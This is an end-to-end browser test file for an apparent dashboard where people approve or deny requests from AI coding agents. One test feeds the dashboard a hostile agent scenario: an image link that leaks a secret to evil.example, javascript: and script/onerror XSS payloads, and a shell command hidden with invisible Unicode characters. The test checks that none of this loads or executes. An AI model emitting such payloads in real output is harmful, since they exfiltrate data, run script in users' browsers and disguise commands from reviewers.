import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, BrowserContext, Locator, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { describeNeeding } from '../support/requirements.js'
import { examineAll } from './axe.js'
import {
  closeProfiles,
  logIn,
  openBrowser,
  openContext,
  pressCard,
  Served,
  show,
  watchErrors,
  watchOrigins,
} from './harness.js'

/**
 * The live demo: real server, real terminals, scripted agents. All tests use one browser and one
 * server, in order: later tests depend on the decisions of earlier ones.
 */
describeNeeding('chromium', 'the dashboard on the live demo', () => {
  let served: Served
  let browser: Browser
  let context: BrowserContext
  let page: Page
  let link: string
  let errors: string[]
  let foreign: string[]
  let demoHome: string

  beforeAll(async () => {
    served = new Served()
    const [line, opened] = await Promise.all([
      served.start(['demo', '--dashboard', '--json', '--speed', '6']),
      openBrowser(),
    ])
    link = line.link
    demoHome = `${line.directory}/home`
    browser = opened
    context = await openContext(browser, { viewport: { width: 1440, height: 900 }, reducedMotion: 'reduce' })
    foreign = watchOrigins(context, line.address)
    await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: line.address })
  })
  afterAll(async () => {
    await closeProfiles(browser)
    await served?.close()
  })

  const newLink = async () =>
    (JSON.parse(await served.run(['serve', '--link', '--json'], demoHome)) as { link: string }).link
  const stopSession = async () => {
    await page.getByRole('button', { name: 'More actions' }).click()
    await page.getByRole('button', { name: 'Stop session…' }).click()
    await page.getByRole('dialog', { name: 'Stop this session?' }).getByRole('button', { name: 'Stop session' }).click()
  }
  const card = (title: RegExp) => page.locator('article.card').filter({ hasText: title }).first()

  /** A run's page removes the card as soon as its answer is applied. */
  const press = (one: Locator, name: string) => {
    const accepted = one.and(one.page().locator('[data-busy=true], :has(.card-end)'))
    return pressCard(
      one,
      once => one.getByRole('button', { name }).click(once),
      async () => (await one.count()) === 0 || (await accepted.count()) > 0,
    )
  }
  const pressKey = (one: Locator, key: string, dialog: Locator) =>
    pressCard(
      one,
      () => page.keyboard.press(key),
      async () => (await dialog.count()) > 0,
    )

  it('accepts a login link once, removes its code from the address, and stores a key that cannot be read', async () => {
    page = await context.newPage()
    errors = watchErrors(page)
    await page.goto(link)
    await page.locator('.shell h1').waitFor()
    expect(page.url()).toBe(`${served.address}/`)
    const stored = await page.evaluate(async () => {
      const database = await new Promise<IDBDatabase>(resolve => {
        const request = indexedDB.open('signalbox')
        request.onsuccess = () => resolve(request.result)
      })
      const device = await new Promise<{ key: CryptoKey }>(resolve => {
        const request = database.transaction('device').objectStore('device').get('current')
        request.onsuccess = () => resolve(request.result)
      })
      database.close()
      const read = await crypto.subtle.exportKey('raw', device.key).then(
        () => 'read',
        error => (error as Error).name,
      )
      return {
        isExtractable: device.key.extractable,
        read,
        cookies: document.cookie,
        local: JSON.stringify(localStorage),
      }
    })
    expect(stored).toMatchObject({ isExtractable: false, read: 'InvalidAccessError', cookies: '' })
    expect(stored.local).not.toContain(link.split('#')[1])

    const second = await openContext(browser)
    const late = await second.newPage()
    await late.goto(link)
    await late.getByText(/invalid or expired login link/i).waitFor()
    expect(late.url()).not.toContain('#')
    await second.close()
  })

  it('shows requests; a press decides one and shows its outcome', async () => {
    const edit = card(/src\/cart\.js/)
    await edit.waitFor()
    expect(await edit.getByRole('heading').textContent()).toBe('Demo wants to edit src/cart.js')
    await edit.getByText('You asked:').waitFor()
    expect(await edit.locator('.request .cut-line').textContent()).toContain('return sum - discountPercent')
    // The place in the file, with the lines around it.
    await edit.locator('.request .diff').getByText('export function total').waitFor()
    const allow = edit.getByRole('button', { name: 'Allow once' })
    const deny = edit.getByRole('button', { name: 'Deny', exact: true })
    const [left, right] = [(await deny.boundingBox())!, (await allow.boundingBox())!]
    expect(right.x - (left.x + left.width)).toBeGreaterThanOrEqual(48)
    expect(Math.min(left.height, right.height)).toBeGreaterThanOrEqual(44)
    await press(edit, 'Allow once')
    await edit.locator('.card-end').getByText('Allowed').waitFor()
    expect(await edit.locator('.card-end').textContent()).toMatch(/by you/)
  })

  it('accepts no press on a card that has just moved', async () => {
    await page.goto(`${served.address}/`)
    const shell = card(/rm -rf coverage/)
    await shell.waitFor()
    await shell.locator('.allow:enabled').waitFor()
    await shell.evaluate(element => {
      // The card moves under the pointer: the press was meant for something else.
      const above = document.createElement('div')
      above.style.height = '80px'
      element.before(above)
      element.querySelector<HTMLButtonElement>('.allow')!.click()
    })
    await page.getByText('The list moved. Press again.').first().waitFor()
    expect(await shell.locator('.card-end').count()).toBe(0)
  })

  it('denies a request with a reason, by keyboard only', async () => {
    await page.goto(`${served.address}/`)
    const shell = card(/rm -rf coverage/)
    await shell.waitFor()
    await shell.locator('.deny:enabled').waitFor()
    const count = await page.locator('article.card').count()
    for (let step = 0; step < count; step++) {
      await page.keyboard.press('j')
      if (await shell.evaluate(element => element === document.activeElement)) break
    }
    const dialog = page.getByRole('dialog', { name: 'Deny' })
    await pressKey(shell, 'D', dialog)
    await page.keyboard.type('Keep the report, please.')
    await page.keyboard.press('Control+Enter')
    await shell
      .getByText(/Denied|Denying/)
      .first()
      .waitFor()
    expect(await shell.locator('.card-end').textContent()).toMatch(/by you/)
  })

  it('opens a page and the list of shortcuts by keyboard; Escape closes the list', async () => {
    await page.goto(`${served.address}/`)
    await page.keyboard.press('g')
    await page.keyboard.press('r')
    await page.locator('h1', { hasText: 'Runs' }).waitFor()
    await page.keyboard.press('?')
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor()
    await page.keyboard.press('Escape')
    await page.getByRole('dialog').waitFor({ state: 'detached' })
  })

  it('answers a question with an option', async () => {
    await page.goto(`${served.address}/`)
    const question = card(/distant signal/)
    await question.getByLabel('Double yellow').check()
    await press(question, 'Answer')
    await question.getByText('Answered').waitFor()
    expect(await question.locator('.card-end').textContent()).toContain('Double yellow')
  })

  it('a session shows terminal and conversation, sends a prompt, and its keyboard is taken and released', async () => {
    await show(page, '/sessions')
    await page.getByRole('link', { name: /a word about parsers/ }).click()
    await page.locator('.xterm-rows').filter({ hasText: 'What next?' }).waitFor()
    await page.getByRole('log').getByText('I am a').waitFor()
    await page.locator('#composer').focus()
    await page.keyboard.type('Show me a table')
    await page.keyboard.press('Enter')
    await page.getByText('Delivered').waitFor()
    await page.getByRole('log').getByText('Show me a table').waitFor()
    await page.getByRole('log').getByRole('heading', { name: 'Turn 2' }).waitFor()

    await page.getByRole('button', { name: 'Take keyboard' }).click()
    await page.getByText('You have the keyboard').waitFor()
    await page.keyboard.type('typed by hand')
    await page.locator('.xterm-rows').filter({ hasText: 'typed by hand' }).waitFor()
    await page.keyboard.press('Control+Shift+Period')
    expect(await page.evaluate(() => document.activeElement?.closest('.terminal-box') === null)).toBe(true)
    await page.getByRole('button', { name: 'Release keyboard' }).click()
    await page.getByText('View only').waitFor()
    await page.getByRole('button', { name: 'Plain text' }).click()
    await page.getByRole('region', { name: 'Terminal as plain text' }).getByText('typed by hand').waitFor()
  })

  it('a working session holds a prompt until it is deleted, is explained, interrupted, stopped and resumed', async () => {
    await show(page, '/sessions')
    await page.getByRole('link', { name: /rebuild the timetable/ }).click()
    await page.getByRole('log').getByText('module by module').waitFor()
    await page.locator('#composer').fill('and then the other half')
    await page.getByRole('button', { name: 'Queue' }).click()
    const held = page.getByRole('list', { name: 'Held prompts' })
    await held.getByText('and then the other half').waitFor()
    await held.getByRole('button', { name: 'Delete this prompt' }).click()
    await held.waitFor({ state: 'detached' })

    await page.keyboard.press('Escape')
    await page.locator('h1').click()
    await page.keyboard.press('e')
    const why = page.getByRole('dialog', { name: 'Why this status?' })
    await why.getByText('Evidence, highest authority first').waitFor()
    expect(await why.locator('table tbody tr').count()).toBeGreaterThan(0)
    await page.keyboard.press('Escape')

    await page.getByRole('button', { name: 'Interrupt' }).click()
    await page.locator('.session-head .badge', { hasText: /Idle|Done/ }).waitFor()
    await stopSession()
    await page.getByText('The session ended').waitFor()
    await page.getByRole('button', { name: 'Resume' }).first().click()
    await page.getByText('resumed from an earlier session').waitFor()
  })

  it('a session is on the wall with a preview and its status, and is renamed there', async () => {
    await show(page, '/panes')
    await page.locator('.tile .thumb svg text').first().waitFor()
    const tile = page.locator('.tile').filter({ hasText: 'a word about parsers' })
    expect(await tile.locator('.badge').textContent()).toMatch(/Idle|Done|Working/)
    expect(await tile.locator('.tile-why').textContent()).toMatch(/#\d+ · demo · timetable/)
    await tile.getByRole('button', { name: /Actions for/ }).click()
    await page.getByRole('button', { name: 'Rename…' }).click()
    await page.getByRole('dialog', { name: 'Rename session' }).getByRole('textbox').fill('two words about parsers')
    await page.keyboard.press('Enter')
    const renamed = page.locator('.tile').filter({ hasText: 'two words about parsers' })
    await renamed.getByRole('button', { name: /Actions for/ }).click()
    await page.getByRole('button', { name: 'Rename…' }).click()
    await page.getByRole('dialog', { name: 'Rename session' }).getByRole('textbox').fill('a word about parsers')
    await page.keyboard.press('Enter')
    await tile.waitFor()
    await tile.locator('.tile-open').click()
    await page.waitForURL(/\/s\//)
    // The wall has no tiles for ended sessions: they are listed.
    await show(page, '/panes')
    await page.getByRole('button', { name: /^Ended/ }).click()
    await page.getByRole('link', { name: /yesterday’s question/ }).waitFor()
    await page.getByRole('button', { name: /^Idle/ }).click()
    await page.locator('.tile').first().waitFor()
  })

  it('a run shows graph, timeline, node details and log, and its gate is answered on its page', async () => {
    await show(page, '/runs')
    await page.getByRole('button', { name: /^Needs you/ }).click()
    await page.getByRole('link', { name: /Say what changed/ }).click()
    await page.locator('.graph .node.waiting').waitFor()
    await page.locator('.graph .node.success', { hasText: 'Plan' }).click()
    await page.getByText('Next step').waitFor()
    expect(page.url()).toContain('node=plan')
    await page.getByRole('tab', { name: 'Log' }).click()
    await page.locator('.step-group', { hasText: 'Plan' }).first().waitFor()
    await page.getByLabel('Raw events').check()
    await page.locator('.log').getByText('node.finished').first().waitFor()
    const gate = card(/Approve this plan/)
    await press(gate, 'Approve')
    await page.locator('.page-head .badge', { hasText: 'Done' }).waitFor()
    await page.getByRole('tab', { name: 'Timeline' }).click()
    await page.locator('.gantt li').nth(3).waitFor()
  })

  it('a run is cancelled by keyboard', async () => {
    await show(page, '/runs?status=running')
    await page.getByRole('link', { name: /Discounts/ }).focus()
    await page.keyboard.press('Enter')
    const cancel = page.getByRole('button', { name: 'Cancel', exact: true })
    await cancel.focus()
    await page.keyboard.press('Enter')
    await page.getByRole('dialog', { name: 'Cancel this run?' }).getByRole('button', { name: 'Cancel run' }).click()
    await page.locator('.page-head .badge', { hasText: 'Cancelled' }).waitFor()
    await page.getByRole('button', { name: 'Fork', exact: true }).click()
    await page.getByRole('dialog', { name: 'Fork this run' }).waitFor()
    await page.keyboard.press('Escape')
  })

  it('a replay seeks to a position, keeps it in the address, and shows the detected status', async () => {
    await show(page, '/sessions')
    await page.getByRole('link', { name: /fix the failing test/ }).click()
    await page.getByRole('button', { name: 'More actions' }).click()
    await page.getByRole('link', { name: 'Replay' }).click()
    await page.getByRole('slider', { name: 'Position' }).waitFor()
    await page.getByRole('button', { name: 'Next decision' }).click()
    await page.locator('.xterm-rows').filter({ hasText: 'May I make this change' }).waitFor()
    await page.getByText('Detected status').waitFor()
    await page.waitForURL(/\?t=\d+/)
    const at = new URL(page.url()).searchParams.get('t')
    await page.reload()
    await page.getByRole('slider', { name: 'Position' }).waitFor()
    expect(
      Math.abs(Number(await page.getByRole('slider', { name: 'Position' }).inputValue()) - Number(at)),
    ).toBeLessThan(51)
    await page.getByRole('button', { name: 'Play' }).click()
    await page.getByRole('button', { name: 'Pause' }).click()
  })

  it('two sessions are compared at positions that the address contains', async () => {
    await show(page, '/sessions')
    const href = await page.getByRole('link', { name: /fix the failing test/ }).getAttribute('href')
    await show(page, `/replay/${href!.slice('/s/'.length)}`)
    await page.getByRole('link', { name: 'Compare' }).click()
    await page.getByRole('heading', { name: 'Compare two moments' }).waitFor()
    const second = page.getByRole('region', { name: 'Second', exact: true })
    await page.getByText('Move both together').click()
    await second.getByRole('slider', { name: 'Position' }).fill('0')
    const view = page.locator('.compare-below').getByRole('row', { name: /^View/ })
    await view.getByText('unknown').waitFor()
    await second.getByRole('combobox').selectOption({ label: '7 a word about parsers' })
    await page.locator('.diff .add').first().waitFor()
    await page.getByRole('button', { name: 'Conversation' }).click()
    await page.locator('.diff').getByText('The signalman sees every train').waitFor()
    await page.getByRole('button', { name: 'Copy link' }).click()
    const link = await page.evaluate(() => navigator.clipboard.readText())
    expect(link).toMatch(/\/compare\?a=\w+&at=\d+&b=\w+&bt=\d+$/)
    await show(page, link.replace(served.address, ''))
    await second.locator('.xterm-rows').filter({ hasText: 'enter to send' }).waitFor()
  })

  it('sub-agents are shown as a tree, and the use of the context as a gauge, also after the session ended', async () => {
    await show(page, '/sessions')
    await page.getByRole('link', { name: /check every signal/ }).click()
    const gauge = page.getByRole('meter', { name: 'Context in use' })
    await gauge.waitFor()
    expect(await gauge.getAttribute('aria-valuetext')).toBe('67%, 134 k of 200 k tokens')
    const tree = page.getByRole('list', { name: 'Sub-agents of demo' })
    await tree.locator('li li').getByText('Sight lines').waitFor()
    await tree.locator(':scope > li', { hasText: 'North line' }).getByText('Done').waitFor()
    expect(await tree.locator(':scope > li').count()).toBe(3)

    // The last report stays after the session has ended.
    await stopSession()
    await page.getByText('The session ended').waitFor()
    await page.getByText('working at the last report').click()
    await tree.locator('li li').getByText('Sight lines').waitFor()
    await tree.locator(':scope > li', { hasText: 'Harbour' }).getByText('end unknown').first().waitFor()
    await page.reload()
    await page.getByText('working at the last report').waitFor()
    await gauge.waitFor()
  })

  it('two runs are compared node by node', async () => {
    await show(page, '/runs')
    await page.getByLabel('Compare Say what changed').check()
    await page.getByLabel('Compare Imports are sorted').check()
    await page.getByRole('link', { name: 'Compare' }).click()
    await page.getByRole('heading', { name: 'Compare two runs' }).waitFor()
    const sort = page.getByRole('row', { name: /^Sort/ })
    await sort.getByText('not in this graph').waitFor()
    await sort.getByRole('button').click()
    await page.getByRole('region', { name: 'Result' }).getByText('One of the runs has not reached').waitFor()
  })

  it('usage is shown as plots, tables and CSV', async () => {
    await show(page, '/usage')
    await page.locator('.plot-box canvas').first().waitFor()
    const stats = await page.locator('.stats .stat').allTextContents()
    for (const stat of [
      /^\$[\d.]+spent$/,
      /^[\d.]+ ?[kM]?tokens in$/,
      /^\d+%of runs passed$/,
      /^\d.*median time to decide$/,
    ])
      expect(
        stats.filter(text => stat.test(text)),
        String(stat),
      ).toHaveLength(1)
    await page.getByText('Daily budget, $25.00').waitFor()
    await page.getByRole('button', { name: 'Table' }).first().click()
    await page.getByRole('region', { name: 'Cost per day as a table' }).waitFor()
    await page.getByRole('combobox', { name: 'Split by' }).selectOption('node')
    await page.getByRole('region', { name: 'Usage by node' }).getByText('plan').waitFor()
    for (const [split, shown] of [
      ['model', /^Usage by model/],
      ['version', /^Usage by pipeline version/],
    ] as const) {
      await page.getByRole('combobox', { name: 'Split by' }).selectOption(split)
      await page.getByRole('region', { name: shown }).locator('tbody tr').first().waitFor()
    }
    // The version of a pipeline is its name and a hash of its graph.
    await page
      .getByRole('cell', { name: /^Say what changed.* [0-9a-f]{6,}$/ })
      .first()
      .waitFor()
    const [file] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'CSV' }).click()])
    expect(readFileSync(await file.path(), 'utf8')).toMatch(/^day,version,input,output/)
  })

  it('a graph is drawn, and an error is marked at its line', async () => {
    await show(page, '/graphs')
    await page.getByText('valid').waitFor()
    await page.locator('.graph .node', { hasText: 'implement' }).waitFor()
    await page.locator('#dot').fill('digraph g {\n  start [shape=Mdiamond]\n  start -> \n}')
    await page.locator('.gutter .error').first().waitFor()
    expect(await page.getByRole('button', { name: 'Run', exact: true }).isDisabled()).toBe(true)
  })

  it('starts a session from the form', async () => {
    await show(page, '/start')
    await page.getByLabel('Agent').selectOption('demo')
    await page.getByLabel('Name (optional)').fill('started on the page')
    await page.getByLabel('First prompt (optional)').fill('hello')
    await page.getByRole('button', { name: 'Start session' }).click()
    await page.locator('h1', { hasText: 'started on the page' }).waitFor()
  })

  it('settings, doctor and the theme are shown', async () => {
    await show(page, '/settings')
    await page.getByRole('switch', { name: 'An agent needs me' }).waitFor()
    await show(page, '/settings/advanced?show=all')
    await page.getByText('Names of this server').waitFor()
    await page.getByRole('link', { name: 'Doctor' }).click()
    await page.locator('.doctor-line').first().waitFor()
    await page.getByRole('link', { name: 'Appearance' }).click()
    await page.getByRole('button', { name: 'Dark' }).click()
    expect(await page.evaluate(() => document.documentElement.dataset.theme)).toBe('dark')
    await page.getByRole('button', { name: 'System' }).click()
  })

  it('of two browsers that decide at once, one succeeds and the other shows who; a revoked browser is signed out at once', async () => {
    const other = await openContext(browser, { viewport: { width: 1280, height: 800 }, reducedMotion: 'reduce' })
    const rival = await logIn(other, await newLink())
    await show(page, '/start')
    await page.getByLabel('Agent').selectOption('demo')
    await page.getByLabel('Name (optional)').fill('the race')
    await page.getByLabel('First prompt (optional)').fill('The tests fail. Find out why and fix it.')
    await page.getByText('Extra arguments').click()
    await page.getByLabel('Arguments, separated by spaces').fill('--scenario tour --speed 10')
    await page.getByRole('button', { name: 'Start session' }).click()
    const mine = card(/src\/cart\.js/)
    await mine.waitFor()
    const id = await mine.getAttribute('data-approval')
    for (const one of [page, rival]) {
      await one.goto(`${served.address}/a/${id}`)
      await one.getByRole('button', { name: 'Allow once' }).waitFor()
    }
    // Both decisions are held back until both buttons were pressed.
    let arrived = 0
    let release = () => {}
    const both = new Promise<void>(resolve => {
      release = resolve
    })
    for (const one of [page, rival])
      await one.route(/\/decision/, async route => {
        if (++arrived === 2) release()
        await both
        await route.continue()
      })
    await Promise.all([page, rival].map(one => press(one.locator('article.card'), 'Allow once')))
    await Promise.race([page, rival].map(one => one.locator('.toast.bad').waitFor()))
    await Promise.all([page, rival].map(one => one.locator('.card-end').getByText('Allowed').waitFor()))
    await page.unroute(/\/decision/)
    const counts = await Promise.all([page, rival].map(one => one.locator('.toast.bad').count()))
    expect(counts.reduce((sum, count) => sum + count, 0)).toBe(1)

    await page.goto(`${served.address}/settings/people`)
    const others = page.getByRole('row').filter({ hasText: 'Revoke' })
    await others.first().waitFor()
    for (let left = await others.count(); left > 0; left--) {
      await others.first().getByRole('button', { name: 'Revoke' }).click()
      await others.nth(left - 1).waitFor({ state: 'detached' })
    }
    await rival.getByText('Login link or passphrase').waitFor()
    await other.close()
  })

  it('text of an agent stays text: it loads nothing, and hidden characters are revealed', async () => {
    const scenario = join(served.directory, 'hostile.json')
    const hidden = 'echo safe \u202e; ls\u200b -la \u2066'
    writeFileSync(
      scenario,
      JSON.stringify({
        name: 'hostile',
        turns: [
          {
            steps: [
              {
                say: 'Look: ![a picture](https://evil.example/leak.png?secret=1) and [a page](javascript:alert(1)) <img src="https://evil.example/x.png" onerror="alert(1)"> <script>alert(1)</script>',
              },
              { tool: { name: 'Shell', kind: 'shell', command: hidden, permission: true } },
            ],
          },
        ],
      }),
    )
    await show(page, '/start')
    await page.getByLabel('Agent').selectOption('demo')
    await page.getByLabel('First prompt (optional)').fill('go')
    await page.getByText('Extra arguments').click()
    await page.getByLabel('Arguments, separated by spaces').fill(`--scenario ${scenario} --speed 10`)
    await page.getByRole('button', { name: 'Start session' }).click()
    const asked = page.locator('article.card')
    await asked.waitFor()
    expect(await asked.locator('mark').count()).toBeGreaterThan(0)
    expect(await asked.locator('.request').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
    expect(await page.locator('.talk').textContent()).not.toMatch(/[\u200b\u202e\u2066]/)
    expect(await page.locator('.talk :is(img, script, iframe)').count()).toBe(0)
    expect(await page.locator('.talk a[href^="javascript"]').count()).toBe(0)
    expect(foreign).toEqual([])
  })

  it('allows a high risk by keyboard only after a confirmation that Enter does not give', async () => {
    const asked = page.locator('article.card')
    const dialog = page.getByRole('dialog', { name: 'Allow this high-risk request?' })
    await pressKey(asked, 'a', dialog)
    expect(await dialog.textContent()).toContain('High risk')
    await page.keyboard.press('Enter')
    await dialog.waitFor({ state: 'detached' })
    expect(await asked.locator('.card-end').count()).toBe(0)
    await pressKey(asked, 'a', dialog)
    await page.keyboard.press('Tab')
    await page.keyboard.press('Enter')
    await asked
      .locator('.card-end .badge')
      .getByText(/Allowed|Answered/)
      .waitFor()
  })

  it('on a phone the page has a bottom bar and does not scroll sideways', async () => {
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(`${served.address}/`)
    await page.locator('.bottom').waitFor()
    const sideways = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
    expect(sideways).toBeLessThanOrEqual(0)
    await page.getByRole('button', { name: 'More', exact: true }).click()
    await page.getByRole('dialog', { name: 'More' }).getByRole('link', { name: 'Usage' }).click()
    await page.waitForURL(/\/usage/)
    await page.setViewportSize({ width: 1440, height: 900 })
  })

  it('the page made no request to another server and logged no error', () => {
    expect(foreign).toEqual([])
    expect(errors).toEqual([])
  })

  describe('accessibility', () => {
    const LIVE = [
      '/',
      '/sessions?show=ended',
      '/s/1',
      '/panes',
      '/runs',
      '/run',
      '/replay',
      '/compare',
      '/compare/runs',
    ]
    const OTHERS = [
      '/usage',
      '/workers',
      '/graphs',
      '/start',
      '/start?what=run',
      '/start?what=adopt',
      '/search?q=test',
      '/settings',
      '/settings/approvals',
      '/settings/remote',
      '/settings/advanced',
      '/settings/doctor',
      '/settings/people',
      '/settings/page',
    ]
    it.each([
      ['live data', LIVE],
      ['forms and settings', OTHERS],
    ])('axe finds no violation on the pages with %s, wide and narrow, light and dark', async (_, paths) => {
      await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' })
      await page.setViewportSize({ width: 1440, height: 900 })
      await page.goto(`${served.address}/`)
      const found: string[] = []
      for (const path of paths) {
        await show(page, await addressOf(path))
        found.push(...(await examineAll(page, path)))
      }
      expect(found).toEqual([])
    })

    const places = new Map<string, string>()
    /** The address of a page; a page about one resource shows the first of its kind. */
    async function addressOf(path: string): Promise<string> {
      const known = places.get(path)
      if (known) return known
      const found = await find(path)
      places.set(path, found)
      return found
    }

    async function find(path: string): Promise<string> {
      if (!['/run', '/replay', '/s/1', '/compare', '/compare/runs'].includes(path)) return path
      const isRun = path === '/run' || path === '/compare/runs'
      await show(page, isRun ? '/runs' : '/sessions?show=ended')
      const href = (await page
        .locator(`main a[href^="${isRun ? '/r/' : '/s/'}"]`)
        .first()
        .getAttribute('href'))!
      const id = href.slice(3)
      if (path === '/compare') return `/compare?a=${id}&b=${id}&bt=0`
      if (path === '/compare/runs') return `/compare/runs?a=${id}&b=${id}`
      return path === '/replay' ? `/replay/${id}` : href
    }
  })
})
